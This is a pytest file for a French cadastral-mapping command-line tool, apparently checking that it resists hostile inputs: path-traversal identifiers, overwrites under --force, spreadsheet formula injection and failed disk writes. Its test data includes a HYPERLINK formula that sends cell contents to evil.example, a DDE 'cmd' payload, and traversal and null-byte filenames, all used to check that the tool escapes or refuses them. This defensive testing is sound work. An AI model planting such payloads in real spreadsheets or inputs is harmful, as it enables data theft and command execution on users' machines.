"""Bad inputs aimed at the outputs: ids that become paths, --force over what ort did not write,
spreadsheet formulas, and writes that fail (full disk, read-only file system, parent is a file).

Each case runs the real command (or the library writer) on data generated in code and checks
the exit code, the French message and what was (not) written.
"""

from __future__ import annotations

import errno
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from geo import io
from geo.cli import main
from geo.errors import InputError, OutputError, OutputExistsError, OutputNotOursError
from geo.formats import csv_format

REPO = Path(__file__).resolve().parent.parent
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(A1:A9)",
]


def run(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output
    return result


def _rename_perimeter(folder: Path, old: str, new: str) -> None:
    for path in folder.glob("perimetres-*.geojson"):
        data = json.loads(path.read_text(encoding="utf-8"))
        for feat in data["features"]:
            if feat["properties"]["id"] == old:
                feat["properties"]["id"] = new
        path.write_text(json.dumps(data), encoding="utf-8")


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


# --- identifiers that end up in paths ----------------------------------------------------------


@pytest.mark.parametrize("bad_id", ["../../evil", "a/b", "..", "Centre Ville", "x\x1b[31m"])
def test_perimeter_id_that_is_not_a_slug_fails_validate(demo_copy, bad_id):
    _rename_perimeter(demo_copy, "gare", bad_id)
    r = run("validate", demo_copy)
    assert r.exit_code == 1, r.output
    assert "bad-id" in r.output and "centre-ville" in r.output  # the code and an example of the fix


def test_annex_never_writes_outside_its_folder(demo_copy, tmp_path):
    _rename_perimeter(demo_copy, "gare", "../../evil")
    before = _tree(tmp_path)
    out = tmp_path / "sorties" / "annexe"
    for extra in ([], ["--force"]):
        r = run("annex", "--perimeters", demo_copy, "-o", out, "--date", "2024-09-01", *extra)
        assert r.exit_code != 0 and "Erreur" in r.output, r.output
    assert _tree(tmp_path) == before  # nothing written anywhere


def test_write_annex_checks_every_path(tmp_path):
    """The library writer too: a table keyed by a path-like id is refused before any write."""
    from geo.maps.annex import Annex, write_annex

    doc = Annex(pages=[], tables={"../../evil": pd.DataFrame({"idu": ["62999000AB0001"]})})
    with pytest.raises((OutputError, InputError), match="evil"):
        write_annex(doc, tmp_path / "annexe")
    assert _tree(tmp_path) == set()


def test_path_inside_refuses_escapes_and_links(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "lien.csv").symlink_to(tmp_path / "ailleurs.csv")
    for name in ("../x.csv", "a/b.csv", "..", "", "lien.csv", "x\x00.csv"):
        with pytest.raises(OutputError, match="sortirait du dossier de sortie"):
            io.path_inside(tmp_path / "out", name)
    assert io.path_inside(tmp_path / "out", "parcelles-gare.csv").name == "parcelles-gare.csv"
    with pytest.raises(InputError, match="nom de fichier"):
        io.safe_name("../../evil")


# --- --force replaces only what ort wrote --------------------------------------------------------


def _user_folder(path: Path) -> Path:
    path.mkdir(parents=True)
    (path / "rapport-du-maire.docx").write_bytes(b"precieux")
    return path


def test_classify_force_refuses_a_folder_ort_did_not_write(demo_copy, tmp_path):
    out = _user_folder(tmp_path / "mes-documents")
    src = demo_copy.parent.parent / "data" / "demo" / "cadastre-62999-parcelles.json.gz"
    r = run(
        "classify",
        src,
        "--perimeters",
        demo_copy,
        "-o",
        out,
        "--date",
        "2024-09-01",
        "--force",
        "--workers",
        1,
    )
    assert r.exit_code == 1, r.output
    assert "n'a pas de _manifest.json" in r.output and "--force ne remplace que" in r.output
    assert (out / "rapport-du-maire.docx").read_bytes() == b"precieux"
    assert _tree(out) == {"rapport-du-maire.docx"}


def test_classify_force_replaces_its_own_output(demo_copy, tmp_path):
    out = tmp_path / "verdicts"
    src = demo_copy.parent.parent / "data" / "demo" / "cadastre-62999-parcelles.json.gz"
    args = ("classify", src, "--perimeters", demo_copy, "-o", out, "--date", "2024-09-01", "--workers", 1)
    assert run(*args).exit_code == 0
    again = run(*args, "--force")
    assert again.exit_code == 0, again.output
    assert io.read_manifest(out) is not None


def test_check_output_folder_rules(tmp_path):
    empty = tmp_path / "vide"
    empty.mkdir()
    with pytest.raises(OutputExistsError):
        io.check_output_folder(empty)
    assert io.check_output_folder(empty, force=True) == empty  # nothing to lose
    user = _user_folder(tmp_path / "user")
    with pytest.raises(OutputExistsError):
        io.check_output_folder(user)
    with pytest.raises(OutputNotOursError, match="user"):
        io.check_output_folder(user, force=True)
    (user / "_manifest.json").write_text('{"producteur": "quelqu\'un d\'autre"}')
    with pytest.raises(OutputNotOursError):
        io.check_output_folder(user, force=True)
    (tmp_path / "fichier").write_text("x")
    with pytest.raises(OutputNotOursError, match="pas un dossier"):
        io.check_output_folder(tmp_path / "fichier", force=True)


def test_annex_force_keeps_a_users_file_of_the_same_name(demo_copy, tmp_path):
    out = tmp_path / "annexe"
    out.mkdir()
    (out / "annexe.pdf").write_bytes(b"%PDF mon annexe signee")
    r = run("annex", "--perimeters", demo_copy, "-o", out, "--date", "2024-09-01", "--force")
    assert r.exit_code == 1, r.output
    assert "annexe.pdf" in r.output and "_manifest.json" in r.output
    assert (out / "annexe.pdf").read_bytes() == b"%PDF mon annexe signee"
    assert _tree(out) == {"annexe.pdf"}


def test_annex_force_replaces_its_own_files(demo_copy, tmp_path):
    out = tmp_path / "annexe"
    args = ("annex", "--perimeters", demo_copy, "-o", out, "--date", "2024-09-01")
    assert run(*args).exit_code == 0
    manifest = io.read_manifest(out)
    assert manifest is not None and "annexe.pdf" in manifest["fichiers"]
    assert run(*args).exit_code == 1  # no --force
    assert run(*args, "--force").exit_code == 0


def test_demo_force_keeps_a_users_file(tmp_path):
    out = tmp_path / "maps"
    out.mkdir()
    (out / "demo.html").write_text("<p>ma page</p>")
    r = run("demo", "--output-dir", out, "--force")
    assert r.exit_code == 1, r.output
    assert "demo.html" in r.output and "_manifest.json" in r.output
    assert (out / "demo.html").read_text() == "<p>ma page</p>"


# --- spreadsheet formulas ------------------------------------------------------------------------


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_write_table_csv_and_xlsx_keep_text_as_text(tmp_path):
    df = pd.DataFrame(
        {
            "commentaire": FORMULAS + ["\tcaché", "\rretour", "Mairie", "-12,5"],
            "solde": [-1.5, -2.0, 3.0, -4.0, 5.0, 6.0, -7.0, -8.0],
            "n": [-1, 2, 3, 4, 5, 6, 7, -8],
        }
    )
    df.columns = ["=commentaire", "solde", "n"]  # a header from an input file, too
    io.write_table(df, tmp_path / "t.csv")
    d = csv_format()
    back = pd.read_csv(
        tmp_path / "t.csv", dtype=str, keep_default_na=False, sep=d["sep"], encoding=d["encoding"]
    )
    assert list(back.columns)[0] == "'=commentaire"
    assert all(v.startswith("'") for v in back.iloc[:6, 0])
    assert list(back.iloc[6:, 0]) == ["Mairie", "-12,5"]  # ordinary text and numbers untouched
    assert back["solde"].tolist()[0] == f"-1{d['decimal']}5" and back["n"].tolist()[-1] == "-8"  # numbers
    io.write_table(df, tmp_path / "t.xlsx")
    xml = _sheet_xml(tmp_path / "t.xlsx")
    assert "<f>" not in xml and "<f " not in xml
    back = pd.read_excel(tmp_path / "t.xlsx", header=3)  # rows 1-2: title and source (annex layout)
    assert back.iloc[0, 0] == FORMULAS[0]  # the text itself, as a string cell
    assert back["solde"].iloc[0] == -1.5 and back["n"].iloc[-1] == -8


def test_check_file_with_formulas_in_comments(demo_copy, tmp_path):
    ids = tmp_path / "ids.csv"
    rows = ["idu;commentaire"] + [f"62999000AB00{12 + i};{f}" for i, f in enumerate(FORMULAS)]
    ids.write_text("\n".join(rows) + "\n", encoding="utf-8")
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"res.{suffix}"
        r = run("check", "--file", ids, "--perimeters", demo_copy, "--date", "2024-09-01", "-o", out)
        assert r.exit_code == 0, r.output
        if suffix == "xlsx":
            assert "<f>" not in _sheet_xml(out)
        else:
            text = out.read_text(encoding="utf-8-sig")
            assert "'=HYPERLINK" in text and "'@SUM" in text and "'+cmd" in text


def test_actions_dashboard_xlsx_has_no_formula(demo_copy, tmp_path):
    register = demo_copy / "actions.toml"
    text = register.read_text(encoding="utf-8")
    text = text.replace(
        'maitre_ouvrage = "Commune d\'Ormeval-sur-Mer (fictive)"', 'maitre_ouvrage = "=1+1"', 1
    )
    register.write_text(text, encoding="utf-8")
    out = tmp_path / "tableau.xlsx"
    r = run("actions", "--perimeters", demo_copy, "--register", register, "-o", out, "--date", "2024-09-01")
    assert r.exit_code == 0, r.output
    xml = _sheet_xml(out)
    assert "=1+1" in xml and "<f>" not in xml


# --- writes that fail ------------------------------------------------------------------------------


def test_output_whose_parent_is_a_file(demo_copy, tmp_path):
    (tmp_path / "un-fichier").write_text("x")
    r = run("check", "62999000AB0012", "--perimeters", demo_copy, "-o", tmp_path / "un-fichier" / "r.csv")
    assert r.exit_code == 1, r.output
    assert "Erreur interne" not in r.output and "un-fichier" in r.output and "est un fichier" in r.output


@pytest.mark.parametrize(
    ("code", "words"),
    [(errno.ENOSPC, "disque plein"), (errno.EROFS, "lecture seule"), (errno.EACCES, "permission refusée")],
)
def test_disk_full_or_read_only(demo_copy, tmp_path, monkeypatch, code, words):
    import os

    real = os.replace

    def failing(src, dst, *a, **kw):
        if str(dst).endswith("r.csv"):
            raise OSError(code, os.strerror(code), str(dst))
        return real(src, dst, *a, **kw)

    monkeypatch.setattr(os, "replace", failing)
    out = tmp_path / "r.csv"
    r = run("check", "62999000AB0012", "--perimeters", demo_copy, "-o", out, "--date", "2024-09-01")
    assert r.exit_code == 1, r.output
    assert "Erreur interne" not in r.output and words in r.output and "r.csv" in r.output
    assert not out.exists() and list(tmp_path.glob(".r.csv*")) == []


def test_output_that_is_a_folder(tmp_path):
    (tmp_path / "r.csv").mkdir()
    with pytest.raises(OutputError, match="est un dossier"):
        io.write_table(pd.DataFrame({"a": [1]}), tmp_path / "r.csv", force=True)
